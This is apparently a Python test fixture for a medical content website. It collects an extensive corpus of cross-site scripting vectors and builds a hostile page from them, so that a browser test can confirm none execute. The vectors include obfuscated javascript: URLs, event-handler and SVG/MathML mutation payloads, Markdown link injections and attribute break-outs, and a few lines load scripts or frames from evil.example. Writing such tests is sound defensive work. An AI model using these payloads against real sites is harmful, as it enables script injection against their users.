"""Known cross-site scripting vectors, for every field a page is built from, and a page built
from them.

Each vector, if it ran, would call ``alert`` and set ``window.__xss``: the browser test watches
for both (a dialog can be suppressed; the flag cannot).
"""

from __future__ import annotations

from datetime import date

from conditions.content import ConditionData, SectionData, ShortAnswerData, write_condition
from conditions.models import Condition, Section
from images.figures import Figures
from medsite.markdown import render
from medsite.validators import CONTROL_CHARACTERS
from references.models import Reference
from tests.factories import publish

JS = "alert(window.__xss=1)"
# javascript: with every trick a browser's URL parser forgives: case, entities (named, decimal,
# hex, zero-padded, without semicolons), tabs and newlines inside, control characters and
# spaces before. Percent-escaping the scheme makes a relative URL, harmless but listed.
SCRIPT_URLS = [
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"JAVASCRIPT:{JS}",
    f"&#106;avascript:{JS}",
    f"&#x6A;avascript:{JS}",
    f"&#0000106&#0000097vascript:{JS}",
    "&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;" + JS,
    f"javascript&colon;{JS}",
    f"java\tscript:{JS}",
    f"java&#x09;script:{JS}",
    f"java&Tab;script:{JS}",
    f"java\nscript:{JS}",
    f"java&NewLine;script:{JS}",
    f" \x01\x1f javascript:{JS}",
    f"&#x20;javascript:{JS}",
    f"%6A%61%76%61%73%63%72%69%70%74:{JS}",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCh3aW5kb3cuX194c3M9MSk8L3NjcmlwdD4=",
    f"data:text/html,<script>{JS}</script>",
    "DaTa:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
]

# Markdown with HTML in it: what an editor could paste into a section, a short answer or its
# details.
MARKUP = [
    # script and style, however written
    f"<script>{JS}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<<script>script>{JS}<</script>/script>",
    f"<script\n>{JS}</script\n>",
    f"<style>@import 'javascript:{JS}';</style>",
    f"<style>body{{background:url('javascript:{JS}')}}</style>",
    f"<style><img src=x onerror={JS}></style>",
    # event attributes
    f"<img src=x onerror={JS}>",
    f'<img src="x" oNeRrOr="{JS}">',
    f"<img src=x onerror\n={JS}>",
    f"<IMG SRC=javascript:{JS}>",
    "<img src=x:x onerror=&#97;lert(window.__xss=1)>",
    f"<p onclick={JS} onmouseover={JS}>hover me</p>",
    f"<a onmouseover={JS} href=#>hover me</a>",
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}><summary>x</summary></details>",
    f"<body onload={JS}>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}></audio>",
    f'<div tabindex=0 onfocusin="{JS}" style="position:fixed;inset:0">x</div>',
    f"<x onpointerenter={JS}>hover me</x>",
    # SVG and MathML, including mutation XSS through namespace confusion
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f'<svg><a xlink:href="javascript:{JS}"><text x="20" y="20">x</text></a></svg>',
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f'<svg><set attributeName="href" to="javascript:{JS}"/></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={JS}&gt;">',
    f'<math href="javascript:{JS}">click</math>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    # frames, plugins, forms, base, meta, link
    f'<iframe src="javascript:{JS}"></iframe>',
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    "<iframe src=https://evil.example></iframe>",
    f'<object data="javascript:{JS}"></object>',
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    f'<form action="javascript:{JS}"><button>go</button></form>',
    f'<button formaction="javascript:{JS}">go</button>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    '<base href="javascript://">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # links and styles in HTML
    *(f'<a href="{url}">click me</a>' for url in SCRIPT_URLS),
    f'<a href="javascript:{JS}"',  # unclosed
    f'<div style="background:url(javascript:{JS})">x</div>',
    f'<div style="width:expression({JS})">x</div>',
    f'<div style="background:url(&#106;avascript:{JS})">x</div>',
    f'<span style="x:\\65 xpression({JS})">x</span>',
    # links in Markdown: inline, angle-bracketed, titled, autolinks, references, images
    *(f"[click me]({url})" for url in SCRIPT_URLS if "\n" not in url and " " not in url),
    f"[click me](<javascript:{JS}>)",
    f"[click me]( javascript:{JS})",
    f'[click me](https://example.org "a\\" onmouseover=\\"{JS}")',
    f"<javascript:{JS}>",
    f"<JaVaScRiPt:{JS}>",
    f"[click me][evil]\n\n[evil]: javascript:{JS}",
    f'[click me][evil]\n\n[evil]: <javascript:{JS}> "title"',
    f"![x](javascript:{JS})",
    f'![x](x" onerror="{JS})',
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[![x](x)](javascript:{JS})",
    # broken nesting, unclosed tags, comments, CDATA, raw-text elements
    f"<p><b><i>x</p></b><img src=x onerror={JS}>",
    f"<table><tr><td><script>{JS}</script>",
    f"<img src=x onerror={JS}",
    f"<a href='https://example.org'><img src=x onerror={JS}></a",
    f'<!--<img src="--><img src=x onerror={JS}>-->',
    f"<!-- --!><img src=x onerror={JS}> -->",
    f"<![CDATA[<img src=x onerror={JS}>]]>",
    f"<!--[if]><script>{JS}</script -->",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f"<textarea><img src=x onerror={JS}></textarea>",
    f"<title><img src=x onerror={JS}></title>",
    f"<xmp><img src=x onerror={JS}></xmp>",
    f"<noembed><img src=x onerror={JS}></noembed>",
    f"<template><img src=x onerror={JS}></template>",
    f"<plaintext><img src=x onerror={JS}>",
    f'<img src="x` `<script>{JS}</script>"` `>',
    f'<IMG """><SCRIPT>{JS}</SCRIPT>">',
    # pasted markup that imitates the page's own
    f'<sup class="citation"><a href="javascript:{JS}">1</a></sup>',
    f'<a id="cite-1-1" href="javascript:{JS}">1</a>',
    '<a id="ref-1" href="https://evil.example">a fake reference</a>',
    # Markdown structures around HTML
    f"# <script>{JS}</script> heading",
    f"| <img src=x onerror={JS}> | b |\n|---|---|\n| <svg onload={JS}> | 2 |",
    f"- **<img src=x onerror={JS}>** a symptom\n- <svg onload={JS}> another",
    f"> <iframe srcdoc='<script>{JS}</script>'>",
    f"`<script>{JS}</script>` and\n\n    <script>{JS}</script>",
    f"*<img src=x onerror={JS}>*",
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    # citation keys and locators with quotes and angle brackets
    f'[@key"onmouseover={JS}]',
    f'[@key" onmouseover="{JS}"]',
    f"[@<img src=x onerror={JS}>]",
    f"[@hostile2024, p. <img src=x onerror={JS}>]",
    f'[@hostile2024, "><svg onload={JS}>]',
    f"[@hostile2024, ' onmouseover='{JS}]",
    f"[@hostile2024; @<script>{JS}</script>]",
    f"[@ghost2024, <script>{JS}</script>]",
]

# One-line text: page names, other names, summaries, questions, headings, reference fields and
# search queries. Each tries to end the element, attribute, script or comment it is put in.
TEXT = [
    f"<script>{JS}</script>",
    f'"><img src=x onerror={JS}>',
    f"'><svg onload={JS}>",
    f"</title><script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</style><img src=x onerror={JS}>",
    f"--><img src=x onerror={JS}><!--",
    f"]]><img src=x onerror={JS}>",
    f'" onmouseover="{JS}" x="',
    f"' onfocus='{JS}' autofocus x='",
    f"javascript:{JS}",
    f"&lt;img src=x onerror={JS}&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"\u2028\u2029</script\u2028><script>{JS}</script>",
    f"{{{{ request }}}}{{% now 'Y' %}}<img src=x onerror={JS}>",
]

CITATION_KEYS = [f'key"onmouseover={JS}', f"<img src=x onerror={JS}>", "a'b\"c<d>e&f"]

# For fields limited in length (a page's name is at most 200 characters).
SHORT_TEXT = [vector for vector in TEXT if len(vector) <= 80]
# Names, headings and questions refuse control characters (medsite.validators): the vectors that
# reach them through the write paths. The others still reach the summary and the bodies.
ONE_LINE_TEXT = [vector for vector in TEXT if not CONTROL_CHARACTERS.search(vector)]


# --- a condition page made of the corpus -------------------------------------------------------

HOSTILE_KEY = "hostile2024"  # the key the corpus's citation vectors cite
NAME = f'</script><script>{JS}</script>"><img src=x onerror={JS}> fever'
SUMMARY = " ".join(TEXT)


def _shows_no_outside_image(vector: str) -> bool:
    """The renderer found no image from outside the library, nor an unknown library key."""
    figures = Figures()
    render(vector, images=figures)
    return not (figures.misplaced or figures.unknown)


# Vectors citing a key no reference has, or showing an image from another address, would keep the
# page from review (the publish gate): used in drafts only.
PUBLISHABLE = [vector for vector in MARKUP if "ghost2024" not in vector and _shows_no_outside_image(vector)]
_KINDS = [kind for kind in Section.Kind.values if kind != Section.Kind.OVERVIEW]


def hostile_references() -> list[Reference]:
    """References with hostile text in every field, and one for each script URL.

    Created without validation, as data written before a rule existed (or by a future bug)
    would be: the display must not rely on the forms having refused it.
    """
    refs = [
        Reference.objects.create(
            key=HOSTILE_KEY,
            kind=Reference.Kind.JOURNAL_ARTICLE,
            authors="\n".join(SHORT_TEXT[:4]),
            title=TEXT[0],
            container_title=TEXT[1],
            publisher=TEXT[3],
            pages=TEXT[6][:40],
            url=f"javascript:{JS}",
            doi=f'10.1000/"><svg/onload={JS}>',
            note=TEXT[9],
            year=2024,
        ),
        Reference.objects.create(key="ghost2024", title=TEXT[2], kind=Reference.Kind.OTHER),
    ]
    for n, kind in enumerate(Reference.Kind.values):
        refs.append(
            Reference.objects.create(
                key=f"kind{n}",
                kind=kind,
                authors=TEXT[n % len(TEXT)][:200],
                title=TEXT[(n + 1) % len(TEXT)],
                container_title=TEXT[(n + 2) % len(TEXT)],
                publisher=TEXT[(n + 3) % len(TEXT)],
                note=f"Editors: {TEXT[(n + 4) % len(TEXT)]}; {TEXT[(n + 5) % len(TEXT)]}",
                accessed_on=date(2024, 1, 2),
                year=2020,
            )
        )
    for n, url in enumerate(SCRIPT_URLS):
        refs.append(
            Reference.objects.create(
                key=f"url{n}",
                kind=Reference.Kind.WEB_PAGE,
                title=f"Link {n}",
                url=url,
                accessed_on=date(2024, 1, 2),
            )
        )
    for n, key in enumerate(CITATION_KEYS):
        refs.append(Reference.objects.create(key=key, title=f"Odd key {n}", original_text=TEXT[n]))
    refs.append(Reference.objects.create(key="unstructured", original_text=" ".join(TEXT)))
    return refs


def hostile_data(slug: str, bodies: list[str]) -> ConditionData:
    sections = [SectionData(kind=Section.Kind.OVERVIEW, body=bodies[0])]
    sections += [
        SectionData(
            kind=_KINDS[n % len(_KINDS)],
            body=body,
            heading=ONE_LINE_TEXT[n % len(ONE_LINE_TEXT)] if n % 3 == 0 else "",
        )
        for n, body in enumerate(bodies[1:])
    ]
    answers = [
        ShortAnswerData(question, bodies[n % len(bodies)], bodies[(n + len(TEXT)) % len(bodies)])
        for n, question in enumerate(ONE_LINE_TEXT)
    ]
    return ConditionData(
        name=NAME,
        slug=slug,
        summary=SUMMARY,
        also_called=[vector for vector in SHORT_TEXT if vector in ONE_LINE_TEXT],
        sections=sections,
        short_answers=answers,
    )


def make_hostile_page(*, editor, reviewer) -> Condition:
    """A live page built from the corpus, whose working copy was then edited again (a draft).

    The reviewer's public name is hostile too: it is on the page, in its JSON-LD and the feed.
    """
    reviewer.reviewer_profile.display_name = SHORT_TEXT[1]
    reviewer.reviewer_profile.save()
    refs = hostile_references()
    publishable = [ref.key for ref in refs if ref.key != "ghost2024"]
    data = hostile_data("hostile", PUBLISHABLE)
    data.reference_keys = publishable
    condition, _ = write_condition(data, by=editor, comment=TEXT[0])
    publish(condition, editor=editor, reviewer=reviewer, comment=TEXT[1])
    # The next version: every vector (an unknown key among them) in a different order.
    data = hostile_data("hostile", list(reversed(MARKUP)))
    data.reference_keys = [*publishable, "ghost2024"]
    write_condition(data, by=editor, comment=TEXT[2])
    return Condition.objects.get(pk=condition.pk)
